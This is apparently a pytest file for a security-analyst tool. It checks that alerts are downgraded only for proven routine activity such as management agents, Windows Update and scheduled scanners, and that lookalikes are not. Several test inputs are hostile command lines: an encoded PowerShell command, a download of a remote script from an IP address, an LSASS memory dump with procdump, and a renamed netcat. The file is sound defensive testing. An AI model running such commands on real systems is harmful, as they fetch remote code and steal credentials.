"""What speaks for ordinary work lowers a signal, and what an intruder can choose does not."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from soc_analyst.state.findings import Detection, Level, Rule
from soc_analyst.tools.evidence import Evidence, TableRows
from soc_analyst.tools.reasoning.by_rules.ordinary import weighed
from soc_analyst.tools.reasoning.by_rules.ordinary.actors import agents
from soc_analyst.tools.reasoning.by_rules.ordinary.places import closed, open_to_users
from soc_analyst.tools.reasoning.past import Past

START = datetime(2026, 3, 4, 2, tzinfo=UTC)
PROCESSES, CONNECTIONS = "DeviceProcessEvents", "DeviceNetworkEvents"
Row = dict[str, Any]
SCRIPT = "powershell.exe -NoProfile -File D:\\Ops\\Inventory.ps1 -Run 17"
CCM = {"InitiatingProcessFileName": "CcmExec.exe", "InitiatingProcessFolderPath": "C:\\Windows\\CCM\\CcmExec.exe"}
AGENT = {**CCM, "InitiatingProcessSignatureStatus": "Valid", "InitiatingProcessAccountName": "system"}
VENDOR = {
    "InitiatingProcessFileName": "backupd.exe",
    "InitiatingProcessFolderPath": "C:\\Program Files\\Acme Backup\\backupd.exe",
    "InitiatingProcessSignatureStatus": "Valid",
    "InitiatingProcessVersionInfoCompanyName": "Acme Software GmbH",
    "InitiatingProcessVersionInfoOriginalFileName": "backupd.exe",
}


def process(host: str = "ws-1", days: float = 0, minutes: float = 0, **more: Any) -> Row:
    return {
        "TimeGenerated": START + timedelta(days=days, minutes=minutes),
        "DeviceName": host,
        "FileName": "powershell.exe",
        "FolderPath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "ProcessCommandLine": SCRIPT,
        "AccountName": "jdoe",
        "InitiatingProcessFileName": "svchost.exe",
        "InitiatingProcessFolderPath": "C:\\Windows\\System32\\svchost.exe",
        "InitiatingProcessSignatureStatus": "",
        "InitiatingProcessVersionInfoCompanyName": "",
        "InitiatingProcessVersionInfoOriginalFileName": "",
        "InitiatingProcessAccountName": "jdoe",
        **more,
    }


def weigh(
    rows: Sequence[Row],
    *cited: int,
    table: str = PROCESSES,
    level: Level = "medium",
    technique: str = "T1059.001",
    past: Past | None = None,
) -> Detection:
    """Return one signal on some of the rows, the first where none is named, as it is weighed."""
    collected = TableRows.collect(table, [("q1", pa.Table.from_pylist(list(rows)))])
    rule = Rule(id="r", title="Rule", level=level)
    signal = Detection(rule=rule, statement="seen", techniques=(technique,), rows=collected.refs(cited or [0]))
    (found,) = weighed([signal], Evidence([collected]), past)
    return found


def told(found: Detection) -> str:
    return " ".join(found.notes)


DAILY = [process(days=-n, minutes=n) for n in range(5)]
EVERYWHERE = [process(f"ws-{n}", minutes=n) for n in range(12)]


def test_a_known_script_is_one_that_its_account_runs_on_many_hosts_over_days() -> None:
    rows = [*EVERYWHERE, *(process(f"ws-{n}", days=-1) for n in range(6))]
    found = weigh(rows)
    assert found.level == "low"
    assert "the script d:\\ops\\inventory.ps1, run by its account on 12 host(s) and 2 days" in told(found)


def test_a_script_that_reaches_many_hosts_in_one_hour_is_no_known_script() -> None:
    found = weigh(EVERYWHERE)
    assert found.level == "medium"
    assert "12 of 12 hosts did the same within 4 hours" in told(found)


def test_another_account_does_not_borrow_what_a_script_is_known_for() -> None:
    rows = [*EVERYWHERE, *(process(f"ws-{n}", days=-1) for n in range(6)), process(InitiatingProcessAccountName="eve")]
    assert weigh(rows, len(rows) - 1).level == "medium"


@pytest.mark.parametrize("more", [AGENT, CCM | {"InitiatingProcessSignatureStatus": ""}], ids=["signed", "unknown"])
def test_an_agent_in_its_own_folder_is_a_proof(more: Row) -> None:
    found = weigh([process(**more)])
    assert found.level == "low"
    assert found.rule.level == "medium"
    assert "management agent ccmexec.exe did it from its own folder" in told(found)


@pytest.mark.parametrize(
    "more",
    [
        {"InitiatingProcessFolderPath": "C:\\Users\\jdoe\\Windows\\CCM\\CcmExec.exe"},
        {"InitiatingProcessFolderPath": "C:\\Windows\\Temp\\Windows\\CCM\\CcmExec.exe"},
        {"InitiatingProcessFolderPath": "C:\\Windows\\CCM\\..\\Temp\\CcmExec.exe"},
        {"InitiatingProcessFolderPath": "C:\\PROGRA~1\\CCM\\CcmExec.exe"},
        {"InitiatingProcessFolderPath": "\\\\evil\\c$\\Windows\\CCM\\CcmExec.exe"},
        {"InitiatingProcessFileName": "ccmexec .exe"},
        {"InitiatingProcessSignatureStatus": "Unsigned"},
        {"InitiatingProcessVersionInfoOriginalFileName": "nc.exe"},
        {"ProcessCommandLine": "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"},
        {"ProcessCommandLine": "powershell iwr http://203.0.113.9/a.ps1"},
        {"ProcessCommandLine": "C:\\Users\\Public\\a.exe"},
        {"ProcessCommandLine": "procdump -ma lsass.exe"},
    ],
)
def test_what_only_looks_like_an_agent_or_hides_what_it_does_is_not_lowered(more: Row) -> None:
    assert weigh([process(**{**AGENT, **more})]).level == "medium"


@pytest.mark.parametrize("technique", ["T1003.001", "T1490", "T1486", "T1685.001", "T1562.001", "T1070.001", "T1558"])
@pytest.mark.parametrize("level", ["medium", "high"])
def test_the_unmistakable_keeps_its_level_whoever_does_it_however_often(technique: str, level: Level) -> None:
    rows = [process(days=-n, **AGENT) for n in range(9)]
    assert weigh(rows, technique=technique, level=level).level == level


def test_a_high_is_lowered_only_by_a_proof_and_a_habit() -> None:
    daily = [{**row, **AGENT} for row in DAILY]
    assert weigh(daily, level="high").level == "low"
    assert weigh(daily[:1], level="high").level == "high"
    assert weigh(DAILY, level="high").level == "high"
    assert weigh(daily, level="critical").level == "critical"


@pytest.mark.parametrize("technique", ["T1547.001", "T1546.013", "T1021.001", "T1572", "T1136.001", "T1098"])
def test_an_agent_that_does_what_agents_seldom_do_must_have_done_it_for_days(technique: str) -> None:
    assert weigh([process(**AGENT)], technique=technique).level == "medium"
    assert weigh([{**row, **AGENT} for row in DAILY], technique=technique).level == "low"


def test_the_update_service_installs_from_its_cache() -> None:
    more = {
        "InitiatingProcessFileName": "TiWorker.exe",
        "InitiatingProcessFolderPath": "C:\\Windows\\WinSxS\\amd64_x\\TiWorker.exe",
        "InitiatingProcessAccountName": "SYSTEM",
        "FolderPath": "C:\\Windows\\WinSxS\\amd64_x\\poqexec.exe",
    }
    found = weigh([process(**more)], technique="T1543.003")
    assert found.level == "low"
    assert "the update service tiworker.exe" in told(found)
    assert "software distribution or Windows Update" in told(found)


INSTALL = {
    "FolderPath": "C:\\ProgramData\\Package Cache\\{1}\\setup.exe",
    "ProcessCommandLine": "setup.exe /quiet",
    "InitiatingProcessAccountName": "SYSTEM",
}


def test_an_installer_from_a_package_cache_counts_beside_what_is_usual_only() -> None:
    assert weigh([process(**INSTALL)]).level == "medium"
    found = weigh([process(f"ws-{n}", **INSTALL) for n in range(12)])
    assert found.level == "low"
    assert "an installer from a cache of software distribution" in told(found)


@pytest.mark.parametrize(
    "more",
    [
        {"InitiatingProcessFolderPath": "C:\\ProgramData\\Acme Backup\\backupd.exe"},
        {"InitiatingProcessFolderPath": "C:\\Program Files\\Other\\backupd.exe"},
        {"InitiatingProcessVersionInfoOriginalFileName": "rclone.exe"},
        {"InitiatingProcessSignatureStatus": "Invalid"},
        {"InitiatingProcessFileName": "powershell.exe", "InitiatingProcessVersionInfoOriginalFileName": ""},
    ],
    ids=["open folder", "folder of another", "renamed", "signature", "a loader"],
)
def test_a_vendors_program_counts_where_folder_company_name_and_signature_agree(more: Row) -> None:
    good = [process(days=-n * 7, minutes=90 * n, **VENDOR) for n in range(5)]
    assert weigh([{**row, "InitiatingProcessAccountName": f"u{n}"} for n, row in enumerate(good)]).level == "low"
    bad = [{**row, **more, "InitiatingProcessAccountName": f"u{n}"} for n, row in enumerate(good)]
    assert weigh(bad).level == "medium"


def service(account: str, hours: float) -> list[Row]:
    commands = {"ProcessCommandLine": "robocopy.exe E:\\Data F:\\Copy", "InitiatingProcessAccountName": account}
    return [process(days=-n, minutes=60 * hours * n, **commands) for n in range(5)]


@pytest.mark.parametrize("account", ["svc-copy", "FS01$", "NT SERVICE\\SQLAgent", "gmsa_copy"])
def test_a_service_account_counts_by_doing_the_same_at_the_same_hour(account: str) -> None:
    when = "at the same hour day by day"
    assert when in told(weigh(service(account, 0.1)))
    assert when not in told(weigh(service(account, 5)))
    assert weigh(service(account, 0.1)[:1]).level == "medium"


def test_a_line_that_a_person_runs_day_by_day_is_known_and_that_of_others_is_not() -> None:
    found = weigh(service("jdoe", 0.1))
    assert found.level == "low"
    assert "the same line, run by its account on 1 host(s) and 5 days" in told(found)
    assert "service account" not in told(found)
    by_others = [{**row, "InitiatingProcessAccountName": f"u{n}"} for n, row in enumerate(service("jdoe", 0.1))]
    assert weigh(by_others).level == "medium"


def connections(days: int, hosts: int = 30, hour: float = 0, source: str = "scan-1") -> list[Row]:
    return [
        {
            "TimeGenerated": START + timedelta(days=-day, hours=hour * day, seconds=n),
            "DeviceName": source,
            "ActionType": "ConnectionAttempt",
            "RemoteIP": f"10.0.{n // 250}.{n % 250}",
            "RemotePort": 445,
            "RemoteUrl": "",
            "InitiatingProcessFileName": "scan.exe",
            "InitiatingProcessFolderPath": "C:\\Program Files\\Scan\\scan.exe",
            "InitiatingProcessAccountName": "svc-scan",
        }
        for day in range(days)
        for n in range(hosts + day)
    ]


@pytest.mark.parametrize(
    ("rows", "level"),
    [
        (connections(4), "low"),
        (connections(1), "medium"),
        (connections(2), "medium"),
        (connections(4, hosts=5), "medium"),
        (connections(4, hour=5), "medium"),
        ([*connections(4), *connections(1, hosts=300)], "medium"),
    ],
    ids=["on a schedule", "once", "twice", "few", "at any hour", "wider than ever"],
)
def test_a_scanner_is_one_that_reaches_as_many_at_the_same_hour_for_days(rows: list[Row], level: str) -> None:
    found = weigh(rows, table=CONNECTIONS, technique="T1046")
    assert found.level == level
    assert ("a scan on a schedule: scan-1 reached 30 and more on 4 days" in told(found)) == (level == "low")


def test_what_the_workspace_tells_of_earlier_days_counts_like_rows_at_hand() -> None:
    earlier = pa.Table.from_pylist(service("svc-copy", 0.1)[1:])
    now = service("svc-copy", 0.1)[:1]
    assert weigh(now, past=Past({PROCESSES: earlier})).level == "low"
    hours = tuple((START - timedelta(days=n), 30) for n in range(1, 5))
    scans = Past(reached={(CONNECTIONS, "scan-1"): hours})
    assert weigh(connections(1), table=CONNECTIONS, technique="T1046", past=scans).level == "low"


def test_a_habit_of_a_tenants_account_is_one_from_its_address() -> None:
    def listed(day: int, ip: str = "198.51.100.4") -> Row:
        return {
            "TimeGenerated": START - timedelta(days=day),
            "OperationNameValue": "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION",
            "Caller": "pipeline@contoso.com",
            "CallerIpAddress": ip,
        }

    known = [listed(day) for day in range(5)]
    habit = weigh(known, table="AzureActivity", technique="T1530")
    assert habit.level == "low"
    assert "a habit: such lines on 5 days from this address" in told(habit)
    assert weigh([listed(0, "203.0.113.7"), *known[1:]], table="AzureActivity", technique="T1530").level == "medium"


def changed(day: int, ip: str = "198.51.100.4", what: str = "Reset user password") -> Row:
    by = '{"user":{"userPrincipalName":"desk@contoso.com","ipAddress":"' + ip + '"}}'
    return {"TimeGenerated": START - timedelta(days=day), "OperationName": what, "InitiatedBy": by}


def test_what_a_help_desk_does_daily_is_known_from_its_address_and_logs_taken_away_never_are() -> None:
    known = [changed(day) for day in range(5)]
    assert weigh(known, table="AuditLogs", technique="T1556.006").level == "low"
    assert weigh([changed(0, "203.0.113.7"), *known[1:]], table="AuditLogs", technique="T1556.006").level == "medium"
    assert weigh(known, table="AuditLogs", technique="T1685.002").level == "medium"


WORDS = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-_ .$", min_size=1, max_size=24)


ACCOUNTS = st.tuples(st.sampled_from(["svc-", "gmsa_", "NT SERVICE\\", ""]), WORDS).map("".join)


@given(name=WORDS, account=ACCOUNTS, program=st.sampled_from(sorted(agents())), folder=WORDS)
def test_no_name_alone_buys_silence(name: str, account: str, program: str, folder: str) -> None:
    more = {
        "InitiatingProcessFileName": program,
        "InitiatingProcessFolderPath": f"C:\\Tools\\{folder}\\{program}",
        "InitiatingProcessAccountName": account,
        "AccountName": account,
        "ProcessCommandLine": f"{name}.exe /q",
        "FileName": f"{name}.exe",
    }
    assert weigh([process(**more)]).level == "medium"


@pytest.mark.parametrize(
    "path",
    [
        "C:\\Windows\\Temp\\a.exe",
        "C:\\ProgramData\\svc\\a.exe",
        "C:\\Users\\Public\\a.exe",
        "C:\\Windows\\System32\\spool\\drivers\\color\\a.exe",
        "C:\\Windows\\Tasks\\a.exe",
        "C:\\Program Files\\..\\Users\\a.exe",
        "C:\\PROGRA~1\\a.exe",
        "/tmp/a",
        "\\\\?\\C:\\Windows\\a.exe",
    ],
)
def test_a_folder_that_users_can_write_to_is_open(path: str) -> None:
    assert open_to_users(path)
    assert not closed(path)


@pytest.mark.parametrize(
    "path", ["C:\\Program Files\\A\\a.exe", "C:\\Windows\\System32\\a.exe", "\\\\dc\\sysvol\\d\\l.bat"]
)
def test_a_folder_of_administrators_is_closed(path: str) -> None:
    assert closed(path)
